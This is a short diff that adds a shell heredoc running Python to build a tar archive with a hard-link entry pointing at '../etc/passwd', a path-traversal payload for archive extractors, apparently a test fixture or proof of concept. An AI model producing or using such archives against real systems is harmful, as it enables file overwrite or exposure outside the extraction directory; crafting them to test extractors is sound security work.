@@ -1,0 +1,5 @@
+python3 - <<'P'
+import tarfile
+t=tarfile.open('a.tar','w')
+i=tarfile.TarInfo('ln'); i.type=tarfile.LNKTYPE; i.linkname='../etc/passwd'; t.addfile(i)
+P
